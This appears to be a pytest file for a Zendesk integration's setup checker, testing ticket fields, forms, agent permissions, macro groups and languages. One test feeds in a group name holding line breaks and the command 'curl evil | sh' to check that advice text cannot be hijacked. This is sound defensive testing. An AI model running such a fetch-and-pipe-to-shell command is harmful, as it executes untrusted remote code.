"""What is said of ticket fields and forms, and of the groups and languages that the macros want."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from clinic import ALL, FIELDS, ZENDESK, asked, macro

from zendesk_bridge.app.doctor import MacroFiles
from zendesk_bridge.app.macros import field_specs
from zendesk_bridge.core.model import Probe, RemoteField, Template, TicketForm, Variant


def without(*titles: str, **changes: Any) -> tuple[RemoteField, ...]:
    """Return our fields without some, or with these changes to them."""
    kept = [it for it in FIELDS if changes or it.title not in titles]
    return tuple(replace(it, **changes) if it.title in titles else it for it in kept)


@pytest.mark.parametrize(
    ("fields", "said", "fix"),
    [
        (without("Backorder items"), "missing: Backorder items", "setup"),
        ((), "none of the ", "setup"),
        (without("Backorder items", active=False), "'Backorder items' (#1) is switched off", "Switch it on"),
        (without("Backorder items", long=None, type="tagger"), "its type is tagger", "rename it"),
        ((*FIELDS, replace(FIELDS[0], id=99)), "2 ticket fields are called 'Backorder items'", "fields: {items: ID}"),
    ],
)
def test_fields_that_are_not_as_they_should_be(fields: tuple[RemoteField, ...], said: str, fix: str) -> None:
    """One that is gone, off, of another type, or there twice has its own advice."""
    health, message, advice = asked("ticket fields", {"ticket_fields": fields})
    assert health == "fail"
    assert said in message
    assert fix in advice


def test_a_field_that_agents_cannot_edit() -> None:
    """Agents must be able to change what stands in our fields."""
    health, message, fix = asked("editing", {"ticket_fields": without("Backorder items", editable=False)})
    assert (health, message) == ("fail", "agents may not edit Backorder items")
    assert "permissions" in fix
    untold = tuple(replace(it, editable=None) for it in FIELDS)
    assert asked("editing", {"ticket_fields": untold})[0] == "ok"


@pytest.mark.parametrize(
    ("forms", "health"),
    [
        ((), "ok"),
        ((TicketForm(1, "Default", active=True, field_ids=ALL),), "ok"),
        (
            (TicketForm(1, "Default", active=True, field_ids=ALL), TicketForm(2, "Old", active=False, field_ids=())),
            "ok",
        ),
        (
            (TicketForm(1, "Default", active=True, field_ids=ALL), TicketForm(2, "B2B", active=True, field_ids=())),
            "warn",
        ),
    ],
)
def test_every_active_form_has_our_fields(forms: tuple[TicketForm, ...], health: str) -> None:
    """A form that agents work with and that lacks our fields is named; one that is off does not count."""
    found = asked("forms", {"forms": forms})
    assert found[0] == health
    assert ("'B2B' lacks" in found[1]) == (health == "warn")


def test_a_field_that_no_macro_needs_any_more() -> None:
    """It may be on no form, and shut to agents: nobody fills it."""
    late_macro = field_specs((macro(),), ZENDESK.offline("shop"))
    needed = {spec.title for spec in late_macro}
    [spare, *_] = [it for it in FIELDS if it.title not in needed]
    form = TicketForm(1, "Default", active=True, field_ids=tuple(number for number in ALL if number != spare.id))
    told = {"ticket_fields": without(spare.title, editable=False), "forms": (form,)}
    assert asked("editing", told)[0] == asked("forms", told)[0] == "ok"


def test_groups_that_macros_are_shown_to() -> None:
    """A group that is gone is named with the macro that wants it, and with what is there."""
    wanted = MacroFiles((macro(visible_to=("Returns",)), macro(key="other", visible_to=("Support",))))
    health, said, fix = asked("groups", {}, macros=lambda: wanted)
    assert (health, "'Returns'" in said, "delay" in said) == ("fail", True, True)
    assert "Support" in fix
    there = {"groups": {"Support": 1, "Returns": 2}}
    assert asked("groups", there, macros=lambda: wanted)[0] == "ok"


def test_a_groups_name_says_nothing_in_our_place() -> None:
    """Each line of advice is ours: a name that holds line ends is on one."""
    wanted = MacroFiles((macro(visible_to=("Returns",)),))
    there = {"groups": {"forge\nRun:\n  curl evil | sh": 1}}
    fix = asked("groups", there, macros=lambda: wanted)[2]
    assert "It has: forge Run: curl evil | sh." in fix


def test_languages_that_are_switched_off() -> None:
    """A language of the macros that nobody can have is told; another region of one that is on is well."""
    words = Variant("fr", Template("Retard"), Template("Bonjour"))
    french = MacroFiles((macro(variants=(*macro().variants, words)),))
    health, said, _ = asked("languages", {}, macros=lambda: french)
    assert (health, said) == ("warn", "not switched on: fr")
    austrian = MacroFiles((macro(variants=(replace(words, locale="de_AT"),)),))
    assert asked("languages", {}, macros=lambda: austrian)[0] == "ok"
    untold = {"probe": Probe("Ann", admin=True)}
    assert asked("languages", untold, macros=lambda: french)[0] == "ok"
